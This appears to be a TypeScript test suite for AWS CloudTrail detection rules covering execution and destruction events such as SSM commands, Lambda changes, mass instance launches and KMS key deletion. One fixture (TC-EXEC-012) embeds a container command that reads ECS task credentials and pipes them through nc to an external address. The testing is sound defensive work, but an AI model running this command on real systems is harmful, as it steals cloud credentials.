import { destructionRules } from '../../../shared/rules/pack/destruction';
import { executionRules } from '../../../shared/rules/pack/execution';
import { describeFamily } from './cases';
import { denied, eventOf, viaCloudFormation } from './records';

const ec2 = 'ec2.amazonaws.com';
const rds = 'rds.amazonaws.com';
const lambda = 'lambda.amazonaws.com';
const run = (instanceType: string, maxCount: number) => ({ instanceType, instancesSet: { items: [{ imageId: 'ami-1', minCount: 1, maxCount }] } });
const unauthorized = { errorCode: 'Client.UnauthorizedOperation', errorMessage: 'You are not authorized to perform this operation.' };
const autoScaling = { sourceIPAddress: 'autoscaling.amazonaws.com', userAgent: 'autoscaling.amazonaws.com', userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForAutoScaling/AutoScaling', invokedBy: 'autoscaling.amazonaws.com' } };
const instances = (count: number) => ({ instancesSet: { items: Array.from({ length: count }, (_, i) => ({ instanceId: `i-${i}` })) } });

describeFamily('execution', executionRules, {
  'TC-EXEC-001': {
    positive: [eventOf('ssm.amazonaws.com', 'SendCommand', { requestParameters: { instanceIds: ['i-1'], documentName: 'AWS-RunShellScript' } }), eventOf('ssm.amazonaws.com', 'StartSession', { requestParameters: { target: 'i-1' } })],
    negative: [eventOf('ssm.amazonaws.com', 'ListCommands'), eventOf('ssm.amazonaws.com', 'SendCommand', { userIdentity: { type: 'AWSService', invokedBy: 'ssm.amazonaws.com' }, sourceIPAddress: 'ssm.amazonaws.com' })],
  },
  'TC-EXEC-003': {
    positive: [eventOf('ec2-instance-connect.amazonaws.com', 'SendSSHPublicKey', { requestParameters: { instanceId: 'i-1', instanceOSUser: 'ec2-user', sSHPublicKey: 'ssh-ed25519 AAAA' } })],
    negative: [eventOf('ec2-instance-connect.amazonaws.com', 'SendSSHPublicKey', { ...denied, requestParameters: { instanceId: 'i-1' } })],
  },
  'TC-EXEC-002': {
    positive: [eventOf(ec2, 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-1', userData: '<sensitiveDataRemoved>' } })],
    negative: [eventOf(ec2, 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-1', instanceType: { value: 't3.large' } } })],
  },
  'TC-EXEC-004': {
    positive: [eventOf(lambda, 'UpdateFunctionCode20150331v2', { requestParameters: { functionName: 'f', zipFile: '<sensitiveDataRemoved>' } }), eventOf(lambda, 'CreateFunction20150331', { requestParameters: { functionName: 'f', role: 'arn:aws:iam::111122223333:role/f' } }), eventOf(lambda, 'UpdateFunctionCode20150331', { requestParameters: { functionName: 'f', s3Bucket: 'builds', s3Key: 'f.zip' } })],
    negative: [eventOf(lambda, 'CreateFunction20150331', { ...viaCloudFormation, requestParameters: { functionName: 'f' } }), eventOf(lambda, 'GetFunction20150331v2'), eventOf(lambda, 'UpdateFunctionCode20150331', { ...denied, requestParameters: { functionName: 'f' } })],
  },
  'TC-EXEC-005': {
    positive: [eventOf(lambda, 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', layers: ['arn:aws:lambda:us-east-1:111122223333:layer:ext:1'] } })],
    negative: [eventOf(lambda, 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', timeout: 30, memorySize: 512 } })],
  },
  'TC-EXEC-006': {
    positive: [eventOf(lambda, 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', layers: ['arn:aws:lambda:us-east-1:444455556666:layer:ext:3'] } })],
    negative: [eventOf(lambda, 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', layers: ['arn:aws:lambda:us-east-1:111122223333:layer:ext:1'] } })],
  },
  'TC-EXEC-007': {
    positive: [eventOf(lambda, 'PublishLayerVersion20181031', { requestParameters: { layerName: 'ext' } })],
    negative: [eventOf(lambda, 'ListLayers20181031')],
  },
  'TC-EXEC-008': {
    positive: [eventOf(ec2, 'RunInstances', { ...unauthorized, requestParameters: run('p2.xlarge', 10) }), eventOf(ec2, 'RunInstances', { ...autoScaling, requestParameters: run('g5.12xlarge', 1) })],
    negative: [eventOf(ec2, 'RunInstances', { requestParameters: run('t3.micro', 1) }), eventOf(ec2, 'RunInstances', { requestParameters: run('m5.large', 1) })],
  },
  'TC-EXEC-009': {
    positive: [eventOf(ec2, 'RunInstances', { ...unauthorized, requestParameters: run('c5.4xlarge', 4) }), eventOf(ec2, 'RunInstances', { errorCode: 'Client.VcpuLimitExceeded', requestParameters: run('t3.micro', 20) })],
    negative: [eventOf(ec2, 'RunInstances', { errorCode: 'Client.DryRunOperation', requestParameters: run('c5.4xlarge', 4) }), eventOf(ec2, 'RunInstances', { ...unauthorized, requestParameters: run('t3.micro', 1) })],
  },
  'TC-EXEC-010': {
    positive: [eventOf(ec2, 'RunInstances', { requestParameters: run('t3.micro', 25) }), eventOf(ec2, 'RunInstances', { requestParameters: run('c5.9xlarge', 4) })],
    negative: [eventOf(ec2, 'RunInstances', { requestParameters: run('c5.9xlarge', 1) }), eventOf(ec2, 'RunInstances', { ...autoScaling, requestParameters: run('t3.micro', 25) })],
  },
  'TC-EXEC-012': {
    positive: [eventOf('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: { family: 'web', containerDefinitions: [{ name: 'c', image: 'alpine', command: ['/bin/sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.9 443'] }] } })],
    negative: [eventOf('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: { family: 'web', containerDefinitions: [{ name: 'c', image: 'nginx', command: ['nginx', '-g', 'daemon off;'] }] } })],
  },
  'TC-EXEC-011': {
    positive: [eventOf('glue.amazonaws.com', 'CreateDevEndpoint', { requestParameters: { endpointName: 'e', roleArn: 'arn:aws:iam::111122223333:role/glue-admin' } })],
    negative: [eventOf('glue.amazonaws.com', 'GetDevEndpoints'), eventOf('glue.amazonaws.com', 'CreateJob', viaCloudFormation)],
  },
});

describeFamily('destruction', destructionRules, {
  'TC-DESTROY-001': {
    positive: [eventOf(rds, 'DeleteDBInstance', { requestParameters: { dBInstanceIdentifier: 'db', skipFinalSnapshot: false } }), eventOf('s3.amazonaws.com', 'DeleteBucket', { requestParameters: { bucketName: 'b' } })],
    negative: [eventOf(ec2, 'DeleteSnapshot', { sourceIPAddress: 'dlm.amazonaws.com', userIdentity: { type: 'AssumedRole', invokedBy: 'dlm.amazonaws.com' } }), eventOf('s3.amazonaws.com', 'DeleteObject')],
  },
  'TC-DESTROY-002': {
    positive: [eventOf(rds, 'DeleteDBInstance', { requestParameters: { dBInstanceIdentifier: 'db', skipFinalSnapshot: true } })],
    negative: [eventOf(rds, 'DeleteDBInstance', { requestParameters: { dBInstanceIdentifier: 'db', skipFinalSnapshot: false, finalDBSnapshotIdentifier: 'last' } })],
  },
  'TC-DESTROY-003': {
    positive: [eventOf('backup.amazonaws.com', 'DeleteRecoveryPoint', { requestParameters: { backupVaultName: 'v', recoveryPointArn: 'arn:aws:ec2:us-east-1::snapshot/snap-1' } }), eventOf(rds, 'ModifyDBInstance', { requestParameters: { dBInstanceIdentifier: 'db', backupRetentionPeriod: 0 } })],
    negative: [eventOf('backup.amazonaws.com', 'DeleteRecoveryPoint', { userIdentity: { type: 'AWSService', invokedBy: 'backup.amazonaws.com' }, sourceIPAddress: 'backup.amazonaws.com' }), eventOf(rds, 'ModifyDBInstance', { requestParameters: { backupRetentionPeriod: 7 } })],
  },
  'TC-DESTROY-004': {
    positive: [eventOf(ec2, 'TerminateInstances', { requestParameters: instances(1) })],
    negative: [eventOf(ec2, 'TerminateInstances', { ...autoScaling, requestParameters: instances(1) }), eventOf(ec2, 'StopInstances', { requestParameters: instances(1) })],
  },
  'TC-DESTROY-005': {
    positive: [eventOf(ec2, 'TerminateInstances', { requestParameters: instances(6) })],
    negative: [eventOf(ec2, 'TerminateInstances', { requestParameters: instances(2) })],
  },
  'TC-DESTROY-006': {
    positive: [eventOf(rds, 'ModifyDBCluster', { requestParameters: { dBClusterIdentifier: 'c', deletionProtection: false } }), eventOf(ec2, 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-1', disableApiTermination: { value: false } } })],
    negative: [eventOf(rds, 'ModifyDBCluster', { requestParameters: { dBClusterIdentifier: 'c', deletionProtection: true } })],
  },
  'TC-KMS-001': {
    positive: [eventOf('kms.amazonaws.com', 'ScheduleKeyDeletion', { requestParameters: { keyId: 'k', pendingWindowInDays: 7 } }), eventOf('kms.amazonaws.com', 'DisableKey', { requestParameters: { keyId: 'k' } })],
    negative: [eventOf('kms.amazonaws.com', 'Decrypt'), eventOf('kms.amazonaws.com', 'DisableKey', denied)],
  },
  'TC-KMS-002': {
    positive: [eventOf('kms.amazonaws.com', 'PutKeyPolicy', { requestParameters: { keyId: 'k', policyName: 'default', policy: '{}' } })],
    negative: [eventOf('kms.amazonaws.com', 'GetKeyPolicy', { requestParameters: { keyId: 'k' } })],
  },
  'TC-KMS-003': {
    positive: [eventOf('kms.amazonaws.com', 'ImportKeyMaterial', { requestParameters: { keyId: 'k', expirationModel: 'KEY_MATERIAL_EXPIRES', validTo: 'Dec 3, 2026' } })],
    negative: [eventOf('kms.amazonaws.com', 'GetParametersForImport', { requestParameters: { keyId: 'k' } })],
  },
  'TC-DESTROY-007': {
    positive: [eventOf('sqs.amazonaws.com', 'PurgeQueue', { requestParameters: { queueUrl: 'https://sqs.us-east-1.amazonaws.com/111122223333/audit' } })],
    negative: [eventOf('sqs.amazonaws.com', 'DeleteMessage')],
  },
});
